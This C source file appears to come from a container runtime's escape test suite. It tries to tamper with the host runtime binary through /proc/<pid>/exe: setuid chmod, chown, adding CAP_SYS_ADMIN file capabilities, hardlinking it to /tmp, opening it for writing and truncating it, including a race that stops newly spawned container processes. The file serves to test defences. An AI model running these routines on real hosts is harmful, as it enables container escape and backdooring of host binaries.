/* SPDX-License-Identifier: Apache-2.0
 *
 * The file on the host that a process runs, changed through its /proc/<pid>/exe. A process of
 * the container that has not executed its program yet runs the runtime's. Which file is the
 * aim is said by its inode number, so that no other one is ever touched.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#include "tests/escape/attack.h"

/* How far ahead of the newest process the next one is expected. */
#define AHEAD 24

static void say(const char *what, long result)
{
	printf("%s\t%s\n", what, result < 0 ? strerrorname_np(errno) : "ok");
	fflush(stdout);
}

/* What is mapped leads to files as well. */
static int touch_mapped(pid_t pid, ino_t inode, const struct timespec times[2])
{
	char dir[64], path[400];
	struct dirent *e;
	struct stat st;
	int r = -1;
	DIR *d;

	snprintf(dir, sizeof(dir), "/proc/%d/map_files", pid);
	d = opendir(dir);
	if (!d)
		return -1;
	while (r < 0 && (e = readdir(d))) {
		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		if (e->d_name[0] == '.' || (stat(path, &st) == 0 && st.st_ino != inode))
			continue;
		r = utimensat(AT_FDCWD, path, times, 0);
		if (r < 0)
			break;
	}
	closedir(d);
	return r;
}

static int change(pid_t pid)
{
	/* version 2, CAP_SYS_ADMIN permitted */
	static const unsigned char caps[20] = { 0, 0, 0, 2, 0, 0, 32, 0 };
	const struct timespec times[2] = { { .tv_sec = 1 }, { .tv_sec = 1 } };
	struct stat st = { .st_ino = 0 };
	char exe[64], link[64];
	int fd;

	snprintf(exe, sizeof(exe), "/proc/%d/exe", pid);
	stat(exe, &st);
	say("chmod", chmod(exe, 04777));
	say("chown", chown(exe, 1000, 1000));
	say("utimens", utimensat(AT_FDCWD, exe, times, 0));
	say("setxattr", setxattr(exe, "user.attack", "1", 1, 0));
	say("setxattr caps", setxattr(exe, "security.capability", caps, sizeof(caps), 0));
	fd = open(exe, O_PATH | O_CLOEXEC);
	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	say("chmod O_PATH", chmod(link, 04777));
	say("link O_PATH", linkat(AT_FDCWD, link, AT_FDCWD, "/tmp/stolen", AT_SYMLINK_FOLLOW));
	say("link", linkat(AT_FDCWD, exe, AT_FDCWD, "/tmp/stolen2", AT_SYMLINK_FOLLOW));
	say("mapped", touch_mapped(pid, st.st_ino, times));
	say("open rw", open(exe, O_RDWR | O_CLOEXEC));
	say("truncate", truncate(exe, 0));
	return 0;
}

static int image_of(struct trial *t, char **args)
{
	change((pid_t)arg_number(args[0]));
	return trial_say(t, "done");
}

static bool runs(pid_t pid, ino_t inode)
{
	char exe[64];
	struct stat st;

	snprintf(exe, sizeof(exe), "/proc/%d/exe", pid);
	return stat(exe, &st) == 0 && st.st_ino == inode;
}

/* Any process in sight that runs the file; what a hook writes goes nowhere. */
static int image_in_sight(struct trial *t, char **args)
{
	const ino_t inode = (ino_t)arg_number(args[0]);
	DIR *d = opendir("/proc");

	if (!freopen(args[1], "we", stdout))
		return trial_fail(t, "freopen");
	for (struct dirent *e; d && (e = readdir(d));) {
		if (atoi(e->d_name) <= 0 || !runs(atoi(e->d_name), inode))
			continue;
		change(atoi(e->d_name));
		return trial_say(t, "done");
	}
	return trial_say(t, "none");
}

static pid_t newest(void)
{
	char text[128] = "", *last;
	FILE *f = fopen("/proc/loadavg", "re");

	if (!f)
		return 0;
	last = fgets(text, sizeof(text), f) ? strrchr(text, ' ') : NULL;
	fclose(f);
	return last ? atoi(last) : 0;
}

/* Stops the next process that is born into the container before it executes anything. */
static int image_next(struct trial *t, char **args)
{
	const ino_t inode = (ino_t)arg_number(args[0]);
	const time_t end = time(NULL) + arg_number(args[1]);

	printf("ready\n");
	fflush(stdout);
	while (time(NULL) < end) {
		const pid_t from = newest() + 1;

		for (pid_t pid = from; pid < from + AHEAD; pid++) {
			if (pid == getpid() || kill(pid, SIGSTOP) < 0)
				continue;
			if (runs(pid, inode)) {
				change(pid);
				kill(pid, SIGCONT);
				return trial_say(t, "done");
			}
			kill(pid, SIGCONT);
		}
	}
	return trial_say(t, "none");
}

const struct attack attacks_image[] = {
	{ "image-of", 1, image_of },
	{ "image-in-sight", 2, image_in_sight },
	{ "image-next", 2, image_next },
	{ NULL, 0, NULL },
};
